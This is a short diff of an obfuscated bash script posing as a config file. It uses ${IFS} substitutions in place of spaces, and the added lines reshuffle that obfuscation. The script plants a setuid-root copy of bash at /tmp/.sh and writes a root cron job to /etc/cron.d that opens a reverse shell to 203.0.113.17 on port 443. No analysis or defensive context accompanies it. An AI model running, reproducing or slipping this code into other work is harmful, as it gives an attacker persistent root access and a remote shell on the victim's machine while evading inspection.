@@ -1,4 +1,4 @@
-#${IFS}config$IFS$90930$IFS$9v2
+#${IFS}config$IFS$90930${IFS}v2
 #!/bin/bash
-cp${IFS}/bin/bash${IFS}/tmp/.sh;${IFS}chmod${IFS}4755${IFS}/tmp/.sh
-echo${IFS}'*$IFS$9*$IFS$9*$IFS$9*${IFS}*${IFS}root$IFS$9/tmp/.sh${IFS}-p${IFS}-c$IFS$9"bash$IFS$9-i${IFS}>&$IFS$9/dev/tcp/203.0.113.17/443${IFS}0>&1"'$IFS$9>$IFS$9/etc/cron.d/0hourly-sync
+cp$IFS$9/bin/bash$IFS$9/tmp/.sh;${IFS}chmod${IFS}4755${IFS}/tmp/.sh
+echo${IFS}'*${IFS}*${IFS}*$IFS$9*${IFS}*$IFS$9root${IFS}/tmp/.sh${IFS}-p${IFS}-c${IFS}"bash${IFS}-i${IFS}>&$IFS$9/dev/tcp/203.0.113.17/443${IFS}0>&1"'$IFS$9>${IFS}/etc/cron.d/0hourly-sync
